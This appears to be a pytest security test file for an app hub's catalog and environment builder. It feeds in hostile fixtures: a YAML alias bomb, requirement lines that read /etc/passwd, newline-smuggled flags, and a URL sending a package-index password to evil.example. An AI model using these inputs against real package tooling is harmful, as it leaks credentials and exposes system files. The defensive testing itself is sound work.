"""Attacks by what lies in an app's folder: metadata that stop the catalog, requirements that reach further."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from limelight.hub.apps import catalog, metadata
from limelight.hub.apps.environments import BuildFailed, Environments
from limelight.hub.apps.output import Output

BOMB = "\n".join(["a0: &a0 {x: 1}", *(f"a{n}: &a{n} {{<<: [*a{n - 1}, *a{n - 1}]}}" for n in range(1, 40))])


@pytest.mark.parametrize(
    "header",
    [
        BOMB,
        "title: 0x" + "f" * 5000,
        "title: !!int ''",
        "title: !!float ''",
        "title: !!bool maybe",
        "title: !!timestamp x",
        'title: "\\ud800"',
        "title: " + "[" * 20_000,
        "title: x\n" + "y: z\n" * 100_000,
        'app_file: "a\\0b"',
        "app_file: " + "a" * 400,
        "app_file: loop",
        'app_file: other.py\nthumbnail: "a\\0b"',
        "app_file: other.py\nthumbnail: " + "a" * 400,
        "app_file: other.py\nthumbnail: loop",
    ],
    ids=lambda header: header[:40],
)
def test_no_readme_keeps_other_apps_out_of_the_catalog(tmp_path: Path, header: str) -> None:
    evil = tmp_path / "ann" / "evil"
    evil.mkdir(parents=True)
    (evil / "other.py").write_text("")
    (evil / "loop").symlink_to("loop")
    (evil / "README.md").write_text(f"---\n{header}\n---\n")
    (tmp_path / "good.py").write_text("")
    found = catalog.read(tmp_path, "local").by_key
    assert "local/good" in found
    assert all(one.picture() is None for one in found.values())


@pytest.mark.parametrize(
    "table", ["a = " + "[" * 50_000, "a = " + "9" * 5000, "[tool.limelight]\ntitle = 0x" + "f" * 5000]
)
def test_no_script_keeps_other_apps_out_of_the_catalog(tmp_path: Path, table: str) -> None:
    lines = "".join(f"# {line}\n" for line in table.split("\n"))
    (tmp_path / "evil.py").write_text(f"# /// script\n{lines}# ///\n")
    (tmp_path / "good.py").write_text("")
    assert set(catalog.read(tmp_path, "local").by_key) == {"local/evil", "local/good"}
    assert metadata.dependencies_of(tmp_path / "evil.py") == ([], "")


HOSTILE = [
    "-r /etc/passwd",
    "-e /etc",
    "--find-links /etc",
    "requests\\n-r /etc/passwd",
    "requests\\r-r /etc/passwd",
    "x @ https://evil.example/${UV_INDEX_PASSWORD}/x-1-py3-none-any.whl",
    "x @ file:///etc/x.whl",
    "x @ ../x.whl",
    "wheels/x-1-py3-none-any.whl",
    "x-1-py3-none-any.whl",
    "x-1.tar.gz",
    "folder/",
    "x --hash=sha256:00 -e /etc",
]


def _built(folder: Path, hub: Path) -> str:
    """Why the app's environment was not built."""
    (source,) = catalog.read(folder, "local").by_key.values()
    with pytest.raises(BuildFailed) as refused:
        asyncio.run(Environments(hub, may_build=False, own=()).python(source, Output(hub / "log")))
    return str(refused.value)


@pytest.mark.parametrize("line", HOSTILE)
@pytest.mark.parametrize("place", ["script", "project", "list"])
def test_requirements_name_nothing_of_the_machine(tmp_path: Path, place: str, line: str) -> None:
    app, hub = tmp_path / "apps" / "app", tmp_path / "hub"
    app.mkdir(parents=True)
    hub.mkdir()
    written = f'dependencies = ["{line}"]'
    (app / "app.py").write_text(f"# /// script\n# {written}\n# ///\n" if place == "script" else "")
    if place == "project":
        (app / "pyproject.toml").write_text(f"[project]\n{written}\n")
    elif place == "list":
        (app / "requirements.txt").write_text(line.replace("\\n", "\n").replace("\\r", "\r"))
    assert "could not be built" not in _built(tmp_path / "apps", hub)
    assert not list(hub.iterdir()), "uv was asked"


@pytest.mark.parametrize("version", ["/tmp/evil/python", "./python", "--help", "pypy", ">=3.11 -e x"])
def test_a_python_version_is_no_program(tmp_path: Path, version: str) -> None:
    app, hub = tmp_path / "apps", tmp_path / "hub"
    app.mkdir()
    hub.mkdir()
    (app / "app.py").write_text(f'# /// script\n# requires-python = "{version}"\n# ///\n')
    assert "requires-python" in _built(app, hub)
    assert not list(hub.iterdir()), "uv was asked"


@pytest.mark.parametrize(
    "project", ["project = 1", "[project]\ndependencies = 1", "[project]\ndependencies = [1]", "a = " + "[" * 50_000]
)
def test_a_project_that_is_none_is_refused(tmp_path: Path, project: str) -> None:
    app, hub = tmp_path / "apps" / "app", tmp_path / "hub"
    app.mkdir(parents=True)
    hub.mkdir()
    (app / "app.py").write_text("")
    (app / "pyproject.toml").write_text(project)
    assert "pyproject.toml" in _built(tmp_path / "apps", hub)
